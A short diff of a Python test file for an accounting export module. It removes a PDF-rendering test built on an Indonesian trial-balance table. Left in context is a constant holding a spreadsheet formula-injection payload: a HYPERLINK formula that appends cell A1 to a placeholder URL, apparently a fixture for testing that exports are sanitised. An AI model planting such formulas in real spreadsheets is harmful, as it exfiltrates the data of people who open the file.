@@ -84,14 +84,6 @@ def test_xlsx_holds_ints_with_thousands_format(books):
     assert sheet.column_dimensions["B"].width > 20
 
 
-def test_pdf_renders(books):
-    html = (
-        "<html><body><h1>Neraca Saldo</h1><table><tr><td>1-102</td>"
-        "<td>Rp100.000.000</td></tr></table></body></html>"
-    )
-    assert exports.pdf_bytes(html).startswith(b"%PDF")
-
-
 INJECTION = '=HYPERLINK("http://x"&A1,"Klik")'
 
 
